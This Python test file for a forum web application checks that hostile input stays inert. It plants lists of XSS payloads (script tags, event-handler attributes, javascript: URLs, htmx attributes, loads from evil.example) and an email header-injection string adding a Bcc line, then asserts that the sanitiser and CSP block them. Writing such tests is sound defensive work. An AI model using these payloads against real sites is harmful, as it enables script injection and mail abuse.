"""Hostile words wherever somebody's words show, the charity's too; and with CSP alone."""

from __future__ import annotations

import re
from collections.abc import Iterator
from email import message_from_bytes, policy

import pytest
from sqlalchemy import select, text, update
from werkzeug.test import TestResponse

from forum import db
from forum.mail.delivery import as_message
from forum.models.audiences import Audience
from forum.models.boards import Board, Moderatorship
from forum.models.content_notes import ContentNote
from forum.models.guidelines import Acceptance, GuidelinesVersion
from forum.models.members import Member
from forum.models.outbox import OutgoingEmail
from forum.models.posts import Post
from forum.models.signin import SignIn
from forum.models.sites import Site
from forum.models.topics import Persona, Topic
from forum.models.urgent_help import HelpContact
from tests.security.addresses import addresses
from tests.security.doors import kept_out
from tests.security.test_hostile_words import FIT, active
from tests.security.visiting import Visitor
from tests.stores import Files

# Every column of words that pages show, beside a post's own.
PLACES = [
    (Member, "display_name"),
    (Board, "name"),
    (Board, "purpose"),
    (Board, "guidelines"),
    (Audience, "name"),
    (Audience, "statement"),
    (ContentNote, "label"),
    (Site, "name"),
    (Site, "about"),
    (Site, "run_by"),
    (Site, "contact_email"),
    (HelpContact, "name"),
    (HelpContact, "when"),
    (HelpContact, "what"),
    (HelpContact, "text_word"),
    (SignIn, "device"),
    (Topic, "title"),
    (Post, "plain"),
    (Post, "quoted_words"),
    (Persona, "name"),
]
TOGETHER = 4
HERE = [text for text in FIT if "evil" in text or "alert" in text]
HTMX = [
    '</div><b hx-on:click="window.caught=1" hx-on:htmx:load="window.caught=2">hx-on</b>',
    '</div><b hx-get="/health" hx-trigger="load[window.caught=3]">filter</b>',
    '</div><b hx-get="/health" hx-trigger="load" hx-vals="js:{a: window.caught=4}">vals</b>',
    '<i hx-get="/health" hx-trigger="load" hx-vals="js:{a: window.caught=5}">ignored</i>',
]
SCRIPTS = [
    "<script>window.caught=6</script>",
    "<img src=x onerror='window.caught=7'>",
    "<svg onload='window.caught=8'><script>window.caught=9</script></svg>",
    "<iframe srcdoc='<script>parent.caught=10</script>'></iframe>",
    "<iframe src='javascript:parent.caught=11'></iframe>",
    "<object data='data:text/html,<script>parent.caught=12</script>'></object>",
    "<style>@import 'https://evil.example/x.css'; body {display: none}</style>",
    "<script src='https://evil.example/x.js'></script>",
    "<script src='data:text/javascript,window.caught=13'></script>",
    "<script type=module>window.caught=14</script>",
    "<script src='/search?q=window.caught=15'></script>",
    "<base href='https://evil.example/'>",
    "<details open ontoggle='window.caught=16'>x</details>",
    "<input autofocus onfocus='window.caught=17'>",
    "<video><source onerror='window.caught=18'></video>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<a id=lure href='javascript:window.caught=19'>press</a>",
    "<form id=lure2 action='javascript:window.caught=20'><button id=press>press</button></form>",
]

KEY = "'otpauth://totp/"  # the way to her own authenticator app, on one page


@pytest.fixture
def roomy(app, store):
    """Columns that take words of any length, as SQLite's do by themselves."""
    if isinstance(store, Files):
        yield
        return
    where = "attrelid = CAST(:table AS regclass) AND attname = :name"
    length = text(f"UPDATE pg_attribute SET atttypmod = :length WHERE {where}")
    places = [
        {"table": table.__tablename__, "name": name} for table, name in [*PLACES, (Site, "name")]
    ]
    known = text(f"SELECT atttypmod AS length FROM pg_attribute WHERE {where}")
    before = [each | {"length": db.session.scalar(known, each)} for each in places]
    with db.transaction():
        db.session.execute(length, [each | {"length": -1} for each in places])
    yield
    with db.transaction():
        db.session.execute(length, before)


@pytest.fixture
def site(cast, roomy, once) -> None:
    """Something in every table; and Mo holds every role, so that all pages open."""
    once("site", lambda: fill(cast))


def fill(cast) -> None:
    """Writes it."""
    with db.transaction():
        HelpContact.seed()
        for board in (cast.board_mothers, cast.board_welcome):
            topic = Topic.open(board, by=cast.mia, title="Nights", body="I cannot sleep @Sol")
            opening = topic.opening_post
            topic.reply(by=cast.sol, body="Nor I", quoting=opening, quoted_words="sleep")
            topic.reply(by=cast.pia, body="Hush", anonymous=True)
        for role in ("coordinator", "administrator"):
            cast.mo.appoint(role, by=None)
        Moderatorship.give(cast.board_welcome, cast.mo, by=None)
        SignIn.begin(cast.mo, device="Firefox")


def poison() -> None:
    """Writes hostile words past every form, straight into the tables."""
    for place, (table, column) in enumerate(PLACES):
        numbers = db.session.scalars(select(table.id)).all()
        for row, number in enumerate(numbers):
            first, step = place * 7 + row * 3, len(HERE) // TOGETHER
            words = " ".join(HERE[(first + n * step) % len(HERE)] for n in range(TOGETHER))
            db.session.execute(
                update(table).where(table.id == number).values({column: f"{words} {number}"})
            )
    words = dict(zip(("text", "easy_text", "changes"), HERE, strict=False))
    version = GuidelinesVersion.publish(by=None, **words)
    db.session.expire_all()
    for member in db.session.scalars(select(Member)):
        Acceptance.give(version, by=member)


@pytest.mark.parametrize("who", ["Mo", "Vi"])
def test_no_page_holds_anything_active_whoever_wrote_the_words(app, cast, site, who):
    visitor, found, looked = Visitor.named(app, who), [], 0
    topics = sorted(db.session.scalars(select(Topic.id)), reverse=True)  # visitors read the first
    rows = {"topics": topics, "members": [cast.mo.id, cast.mia.id]}
    with db.transaction():
        poison()
    pages = [each for rule, each in addresses(app, shapes=rows) if not kept_out(app, rule, who)]

    for address in sorted(pages, key="/exit".__eq__):
        answer = visitor.ask(address, htmx=bool(looked % 2))
        assert answer.status_code < 500, address
        if answer.status_code == 200 and answer.mimetype == "text/html":
            looked += 1
            found += [f"{each} at {address}" for each in active(answer.text) if KEY not in each]

    assert looked > (60 if who == "Mo" else 15)
    assert found == []


def told_about(mo: Visitor, words: str, topic: int) -> Iterator[TestResponse]:
    """Answers with the words taken apart: marked where they were found, or read as Markdown."""
    place = {"place": "reply", "place_id": str(topic)}
    form = {"text": words, "changes": words, "follows": 2}
    yield mo.ask("/search", query_string={"q": f"findable {words}"})
    yield mo.ask("/posts/preview", "POST", data={"body": words, **place})
    yield mo.ask("/guidelines/preview", "POST", data=form)


def given_back(mo: Visitor, words: str) -> Iterator[TestResponse]:
    """Answers with the words as they were typed."""
    yield mo.ask("/search", query_string={"q": "findable", "by": words, "board": words})
    yield mo.ask("/members", query_string={"q": words})
    site = {"name": words, "about": words, "accent": words}
    yield mo.ask("/set-up/site", "POST", data=site)
    board = {"name": words, "purpose": words, "read_by": words}
    yield mo.ask("/set-up/boards", "POST", data=board)
    yield mo.ask("/set-up/audiences", "POST", data={"name": words * 9, "statement": words})
    yield mo.ask("/you/name", "POST", data={"name": words})
    form = {"email": words, "password": words, "next": words}
    yield mo.ask("/sign-in", "POST", data=form)
    yield mo.ask("/no-such-place", "POST", data={"body": words, words: words})


def test_search_extracts_previews_and_forms_given_back_are_mere_words(app, cast, site):
    every = [" ".join(HERE[n : n + 54 : 9]) for n in range(0, len(HERE), 54)]
    with db.transaction():
        for words in every:
            body = f"findable {words} findable"
            topic = Topic.open(cast.board_mothers, by=cast.mia, title="Found", body=body).id
    mo, told = Visitor.named(app, "Mo"), []

    for words in every:
        told += told_about(mo, words, topic)
    told += given_back(mo, every[0])

    assert [answer.status for answer in told if answer.status_code >= 500] == []
    found = [f"{each} at {it.request.path}" for it in told for each in active(it.text)]
    assert found == []


def letters_of(app, name: str, people: tuple[str, ...]) -> list[OutgoingEmail]:
    """The letters that people ask for on a site of that name, some without an account."""
    with db.transaction():
        Site.here().name = name
    vi, addresses = Visitor.named(app, "Vi"), [f"{who}@example.org" for who in people]
    for path in ("/sign-in/link", "/forgotten"):
        for address in addresses:
            vi.ask(path, "POST", data={"email": address})
    mails = select(OutgoingEmail).where(OutgoingEmail.address.in_(addresses))
    return list(db.session.scalars(mails.order_by(OutgoingEmail.id)))


def test_letters_carry_no_more_than_words(app, cast, roomy):
    words = " ".join(HERE[::45])
    name = f"{words}\r\nBcc: evil@evil.example =?utf-8?q?evil?= https://evil.example"

    calm = letters_of(app, "Willow", ("sol", "somebody"))
    letters = letters_of(app, name, ("mia", "nobody"))

    assert len(letters) == len(calm) == 4
    for letter, without in zip(letters, calm, strict=True):
        sent = message_from_bytes(as_message(letter).as_bytes(), policy=policy.default)
        assert sent["Bcc"] is None
        assert len(sent.get_all("To")) == len(sent.get_all("Subject")) == 1
        assert active(letter.html) == active(without.html)  # the styles of our own
        links = re.findall(r"\w+://[^\s\"<>]+", letter.text + letter.html)
        assert {link.split("/")[2] for link in links} <= {"127.0.0.1:8000", "www.w3.org"}


def test_with_the_sanitiser_off_no_script_runs_under_our_policy(app, cast, site, phone, sign_in):
    topic = db.session.scalars(select(Topic.id)).first()
    raw = text("UPDATE posts SET html = :html WHERE topic_id = :topic")
    with db.transaction():
        db.session.execute(raw, {"html": "\n".join(SCRIPTS + HTMX), "topic": topic})
    page, dialogs = phone(), []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sign_in(page, "Mia")

    page.goto(f"/topics/{topic}")
    page.wait_for_timeout(600)
    # Pressed as people do: in what DevTools calls, Chromium lets even a forbidden eval pass.
    for each in ("#lure", "#press", "b"):
        page.locator(each).first.click(force=True, no_wait_after=True)
    page.wait_for_timeout(300)

    assert page.evaluate("window.caught") is None
    assert dialogs == []
    assert page.url.endswith(f"/topics/{topic}")
    assert any("Content Security Policy" in each for each in phone.troubles)
    phone.troubles.clear()
